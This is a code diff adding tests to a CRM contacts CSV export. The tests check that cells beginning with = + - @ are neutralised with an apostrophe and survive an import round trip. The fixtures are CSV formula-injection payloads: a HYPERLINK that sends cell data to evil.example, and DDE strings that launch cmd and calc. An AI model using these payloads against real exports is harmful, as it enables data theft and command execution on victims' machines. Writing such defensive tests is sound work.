@@ -1,3 +1,4 @@
+import { CUSTOMER_FIELD_HEADERS, CUSTOMER_IMPORT_FIELDS } from '@crewdesk/domain';
 import { parse } from 'csv-parse/sync';
 import { eq } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -87,6 +88,71 @@ describe('contacts CSV', () => {
         'Created At': full.createdAt,
       });
       expect(records[0]?.['Assigned To']).not.toBe('');
+    });
+  });
+
+  describe('formula injection', () => {
+    // What a spreadsheet would run if these cells were written as typed.
+    const hostile = {
+      firstName: '=HYPERLINK("https://evil.example/?d="&A2,"Click me")',
+      lastName: "+1+cmd|' /C calc'!A0",
+      company: "-2+3+cmd|' /C notepad'!A0",
+      address: "@SUM(1+1)*cmd|' /C calc'!A0",
+      city: "'=already quoted",
+      notes: '=1+1\nsecond line',
+    };
+    const mapping = Object.fromEntries(
+      CUSTOMER_IMPORT_FIELDS.map((f) => [f, CUSTOMER_FIELD_HEADERS[f]]),
+    );
+
+    async function exportOf(user: SignedInUser) {
+      const res = await asUser(t.app, user, { method: 'GET', url: '/api/customers/export' });
+      expect(res.statusCode).toBe(200);
+      return {
+        csv: res.body,
+        records: parse(res.body, { columns: true }) as Record<string, string>[],
+      };
+    }
+
+    it('when a contact’s fields start with = + - @, then the export prefixes them with an apostrophe so a spreadsheet shows them as text', async () => {
+      const owner = await signedInUser(t.app);
+      await addContact(t.app, owner, { ...hostile, latitude: 30.25, longitude: -97.75 });
+      const { records } = await exportOf(owner);
+      expect(records).toHaveLength(1);
+      expect(records[0]).toMatchObject({
+        'First Name': `'${hostile.firstName}`,
+        'Last Name': `'${hostile.lastName}`,
+        Company: `'${hostile.company}`,
+        Address: `'${hostile.address}`,
+        // An apostrophe the user typed before a formula character gets one more, so the
+        // import (which strips one) gives back what was typed.
+        City: `''=already quoted`,
+        Notes: `'${hostile.notes}`,
+        // A plain number cannot run: coordinates stay numbers.
+        Latitude: '30.25',
+        Longitude: '-97.75',
+      });
+      for (const record of records) {
+        for (const cell of Object.values(record)) expect(cell).not.toMatch(/^[=+@\t\r]/);
+      }
+    });
+
+    it('when an export is imported and exported again, then the contacts are as typed and the apostrophes do not grow', async () => {
+      const owner = await signedInUser(t.app);
+      await addContact(t.app, owner, hostile);
+      const first = await exportOf(owner);
+      expect(first.records[0]?.['First Name']).toBe(`'${hostile.firstName}`);
+
+      const other = await signedInUser(t.app);
+      const res = await importCsv(other, { csv: first.csv, mapping, mode: 'all-or-nothing' });
+      expect(res.json()).toEqual({ imported: 1, errors: [] });
+      const [stored] = await rowsOf(other.accountId);
+      expect(stored).toMatchObject(hostile);
+
+      const second = await exportOf(other);
+      const cells = (r: Record<string, string>) =>
+        CUSTOMER_IMPORT_FIELDS.map((f) => r[CUSTOMER_FIELD_HEADERS[f]]);
+      expect(cells(second.records[0]!)).toEqual(cells(first.records[0]!));
     });
   });
 
